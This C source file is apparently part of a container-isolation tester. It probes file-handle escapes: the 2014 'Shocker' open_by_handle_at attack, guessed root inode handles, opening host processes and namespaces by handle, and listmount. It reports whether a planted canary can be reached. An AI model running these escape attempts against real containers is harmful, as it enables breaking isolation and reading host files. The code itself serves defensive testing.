// File handles: a name for a file by number, which asks no directory on the way (the "Shocker" escape of 2014).
#include "probe.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>

enum { HANDLE_BYTES = 128 };
union handle {
    struct file_handle head;
    char room[sizeof(struct file_handle) + HANDLE_BYTES];
};

// The driver gives handles as TYPE:HEX, made on the host by `probe handle PATH`.
static bool parse_handle(const char *text, union handle *handle) {
    char *hex;
    if (!text) return false;
    handle->head.handle_type = strtol(text, &hex, 10);
    if (*hex++ != ':') return false;
    unsigned size = strlen(hex) / 2, byte;
    for (unsigned i = 0; i < size && i < HANDLE_BYTES; i++) {
        if (sscanf(hex + 2 * i, "%2x", &byte) != 1) return false;
        handle->head.f_handle[i] = byte;
    }
    handle->head.handle_bytes = size;
    return true;
}

// Descriptors on the file systems the jail can see: a volume or a provided file may lie on another than the root.
static const char *const anchors[] = {
    "/", ".", "/tmp", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/dev/console", "/proc/self/exe",
};

static void open_on(const char *anchor, union handle *handle, const char *what) {
    struct stat found, root;
    char text[256];
    int mount = open(anchor, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (mount < 0) return;
    int file = open_by_handle_at(mount, &handle->head, O_RDONLY | O_CLOEXEC);
    close(mount);
    if (file < 0) {
        refused("open_by_handle_at");
        return;
    }
    if (fstat(file, &found) == 0 && S_ISDIR(found.st_mode)) {
        if (stat("/", &root) == 0 && !same_place(&root, &found) && leads_outside(file))
            escaped("opened %s by its handle, on %s", what, anchor);
        harmless("%s lies inside", what);
        return;
    }
    ssize_t size = read(file, text, sizeof text - 1);
    const char *secret = fact("secret");
    if (size > 0 && secret && memmem(text, size, secret, strlen(secret))) escaped("read the host's file by its handle");
    harmless("%s is another file", what);
}

// Opens the host's file that the driver names, by its handle. CAP_DAC_READ_SEARCH in the first user namespace must be
// wanting; since Linux 6.11 a mount of the guest's own may be used, and then only what lies below it.
static void open_canary(const char *subject) {
    union handle handle;
    (void)subject;
    if (!parse_handle(fact("handle"), &handle)) unavailable("no handle= given");
    for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++) open_on(anchors[i], &handle, "the canary");
}

// Guesses the handle of the file system's root: inode 2 on ext4, 128 on XFS, 256 on btrfs. Generation 0 matches any
// root. Same guard.
static void open_volume_root(const char *subject) {
    static const unsigned roots[] = {2, 128, 256};
    (void)subject;
    for (size_t root = 0; root < 3; root++)
        for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++) {
            union handle handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
            memcpy(handle.head.f_handle, (unsigned[]){roots[root], 0}, 8);
            open_on(anchors[i], &handle, "the file system's root");
        }
}

// Opens the host's process and namespaces by handle, new in Linux 6.14 and 6.18: descriptors -10002 and -10003 stand
// for the file systems these live on. Only what the own namespaces contain may be given.
static void open_kernel_object(const char *key) {
    static const int special[] = {-10002, -10003};  // FD_PIDFS_ROOT, FD_NSFS_ROOT
    union handle handle;
    if (!parse_handle(fact(key), &handle)) unavailable("no %s= given", key);
    for (int i = 0; i < 2; i++) {
        int object = open_by_handle_at(special[i], &handle.head, O_RDONLY | O_CLOEXEC);
        if (object >= 0) escaped("opened the host's %s by its handle", key);
        if (errno == EBADF || errno == EINVAL) absent("open_by_handle_at %s", strerrorname_np(errno));
        else refused("open_by_handle_at");
    }
}

// Lists and inspects mounts of the host's mount namespace by its number (listmount, statmount, Linux 6.8). The kernel
// must ask for CAP_SYS_ADMIN in the namespace's owner.
static void list_mounts(const char *subject) {
    enum { LISTMOUNT = 458, LAST_MOUNT = 0 };
    uint64_t ids[64];
    struct { uint32_t size, spare; uint64_t mnt_id, param, mnt_ns_id; } request =
        {sizeof request, 0, UINT64_MAX, LAST_MOUNT, fact_number("mntid", 0)};
    (void)subject;
    if (!request.mnt_ns_id) unavailable("no mntid= given");
    long count = syscall(LISTMOUNT, &request, ids, 64, 0);
    if (count > 0) escaped("listed %ld mounts of the host", count);
    refused("listmount");
}

const struct probe handle_probes[] = {
    {.name = "handle-canary", .attempt = open_canary},
    {.name = "handle-root", .attempt = open_volume_root},
    {.name = "handle-process", .attempt = open_kernel_object, .subject = "pidhandle"},
    {.name = "handle-namespace", .attempt = open_kernel_object, .subject = "nshandle"},
    {.name = "list-mounts", .attempt = list_mounts},
    {0},
};
